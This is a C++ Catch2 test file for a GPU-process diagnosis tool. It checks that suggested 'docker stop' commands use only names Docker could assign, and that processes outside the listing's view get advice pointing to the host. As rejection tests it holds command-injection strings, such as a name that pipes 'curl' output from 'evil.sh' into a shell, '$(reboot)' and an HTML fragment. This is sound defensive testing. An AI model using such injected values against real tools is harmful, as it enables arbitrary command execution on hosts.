// A foreign holder's advice names a command to stop it (issue 36, redteam finding 4): a
// container name comes from a log or a `docker ps` paste, so a command is built only from a name
// Docker could have given; any other name is shown as text and the command is the pid's.
#include <catch2/catch.hpp>

#include <string>

#include "culprit/core/container_name.hpp"
#include "diagnose/advice.hpp"

using culprit::core::is_docker_name;
using culprit::diagnose::culprit_action;
using culprit::diagnose::ProcessRef;

TEST_CASE("is_docker_name is Docker's own grammar", "[diagnose]") {
  CHECK(is_docker_name("vllm-embeddings"));
  CHECK(is_docker_name("k8s_POD_x.y_1"));
  CHECK_FALSE(is_docker_name(""));
  CHECK_FALSE(is_docker_name("-rf"));
  CHECK_FALSE(is_docker_name(".hidden"));
  CHECK_FALSE(is_docker_name("vllm;curl${IFS}evil.sh|sh;#"));
  CHECK_FALSE(is_docker_name("a`b`"));
  CHECK_FALSE(is_docker_name("name with space"));
  CHECK_FALSE(is_docker_name("$(reboot)"));
}

TEST_CASE("a foreign holder's advice builds no docker command from a name Docker would not give", "[diagnose]") {
  ProcessRef p;
  p.host = "spark-b";
  p.pid = 48211;
  p.name = "python3";
  p.role = "foreign";
  p.container = "vllm-embeddings";
  CHECK(culprit_action(p).find("`docker stop vllm-embeddings` on spark-b") != std::string::npos);
  p.container = "vllm;curl${IFS}evil.sh|sh;#<img/src=x>";
  const std::string advice = culprit_action(p);
  CHECK(advice.find("docker stop vllm") == std::string::npos);
  CHECK(advice.find("curl") == std::string::npos);  // the name is the report's to show, not the command's
  CHECK(advice.find("`kill 48211` on spark-b") != std::string::npos);
  CHECK(advice.find("not one Docker gives") != std::string::npos);
}

// Issue 37, finding 19: a holder nvidia-smi listed but could not read (`[Not Found]`) is not
// reachable by a `kill` from where the listing was made: the advice sends the user to the host,
// naming a prompt's 12-hex hostname as the container it is, and builds no kill for that place.
TEST_CASE("a holder outside the listing's view is advised from the host", "[diagnose]") {
  using culprit::core::is_docker_default_hostname;
  CHECK(is_docker_default_hostname("7d2e91c4b05a"));
  CHECK_FALSE(is_docker_default_hostname("7d2e91c4b05"));     // 11 digits
  CHECK_FALSE(is_docker_default_hostname("7D2E91C4B05A"));    // Docker writes lower case
  CHECK_FALSE(is_docker_default_hostname("gpu-node-0007"));   // 13, not hex
  CHECK_FALSE(is_docker_default_hostname("deadbeefcafz"));

  ProcessRef p;
  p.host = "7d2e91c4b05a";
  p.pid = 998877;
  p.role = "foreign";
  p.outside_view = true;
  const std::string in_container = culprit_action(p, "", "", nullptr);
  CHECK(in_container.find("the host that runs container 7d2e91c4b05a") != std::string::npos);
  CHECK(in_container.find("`kill 998877` on 7d2e91c4b05a") == std::string::npos);
  CHECK(in_container.find("cat /proc/998877/cgroup") != std::string::npos);
  p.host = "gpu-node-07";  // a real host's name: the place is that host, outside containers
  const std::string on_host = culprit_action(p, "", "", nullptr);
  CHECK(on_host.find("On gpu-node-07, outside any container") != std::string::npos);
  p.outside_view = false;  // a readable holder keeps the plain kill
  CHECK(culprit_action(p, "", "", nullptr).find("`kill 998877` on gpu-node-07") != std::string::npos);
}
